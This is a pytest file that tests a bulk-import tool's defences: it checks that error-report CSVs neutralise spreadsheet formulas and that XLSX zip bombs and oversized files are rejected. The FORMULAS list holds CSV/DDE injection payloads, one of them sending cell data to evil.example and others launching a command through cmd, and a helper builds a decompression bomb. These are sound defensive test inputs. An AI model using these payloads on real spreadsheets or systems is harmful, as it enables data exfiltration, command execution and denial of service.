"""Bulk files: the error report never hands a spreadsheet a formula, and a zip bomb or an endless file is refused
before it is parsed."""

from __future__ import annotations

import csv
import io
import time
import zipfile

import pytest
from typer.testing import CliRunner

from clearway.bulk.readers import UnusableInput, read_bytes
from clearway.bulk.schemas import RowError
from clearway.bulk.service import errors_csv
from clearway.cli import app
from tests.bulk.conftest import bulk_table, trader_a
from tests.bulk.files import flat, write_csv
from tests.factories import document

__all__ = ["bulk_table", "trader_a"]
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"]


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", FORMULAS)
def test_the_error_report_turns_every_formula_into_text(value):
    rows = _cells(errors_csv([RowError(row=2, column=value, value=value, code="country.unknown",
                                       params={"value": value})]))
    for cell in (rows[0]["column"], rows[0]["value"], rows[0]["message"]):
        assert cell.startswith("'"), cell
    assert rows[0]["value"] == "'" + value  # the trader still sees exactly what it wrote


def test_plain_values_stay_as_they_are():
    rows = _cells(errors_csv([RowError(row=2, column="origin_country", value="ZZ", code="country.unknown",
                                       params={"value": "ZZ"})]))
    assert (rows[0]["column"], rows[0]["value"]) == ("origin_country", "ZZ")


def test_a_formula_in_an_imported_row_comes_back_as_text(trader_a, tmp_path):
    bad = document()
    bad["items"][0]["origin_country"] = FORMULAS[0]
    out = tmp_path / "errors.csv"
    result = CliRunner().invoke(app, ["import", "declarations", str(write_csv(tmp_path / "in.csv", flat([bad]))),
                                      "--as", "trader-a", "--errors", str(out)])
    assert result.exit_code == 1, result.output
    rows = _cells(out.read_text("utf-8-sig"))
    assert rows and all(not r["value"].startswith(("=", "+", "-", "@")) for r in rows)
    assert any(r["value"] == "'" + FORMULAS[0] for r in rows)


def _bomb(expanded_mb: int) -> bytes:
    """A small XLSX whose one sheet inflates to many megabytes of XML."""
    row = b'<row><c t="inlineStr"><is><t>A</t></is></c></row>'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"/>')
        with z.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            chunk = row * 20_000
            for _ in range(expanded_mb * 1_000_000 // len(chunk)):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def test_an_xlsx_bomb_is_refused_before_parsing(db_url):
    data = _bomb(130)
    assert len(data) < 1_000_000  # under a megabyte on the wire
    started = time.perf_counter()
    with pytest.raises(UnusableInput) as refused:
        read_bytes(data, "bomb.xlsx")
    assert time.perf_counter() - started < 1.0
    assert "expands to" in refused.value.problems[0].params["reason"]


@pytest.mark.parametrize("name", ["many.csv", "many.jsonl"])
def test_a_file_with_too_many_rows_is_refused(db_url, monkeypatch, name):
    from clearway.config import get_settings

    monkeypatch.setenv("CLEARWAY_BULK_MAX_ROWS", "10")
    get_settings.cache_clear()
    if name.endswith(".csv"):
        data = ("lrn,hs_code\n" + "".join(f"L{n},851713\n" for n in range(11))).encode()
    else:
        data = "".join("{}\n" for _ in range(11)).encode()
    with pytest.raises(UnusableInput) as refused:
        read_bytes(data, name)
    assert "more than 10 rows" in refused.value.problems[0].params["reason"]
    get_settings.cache_clear()
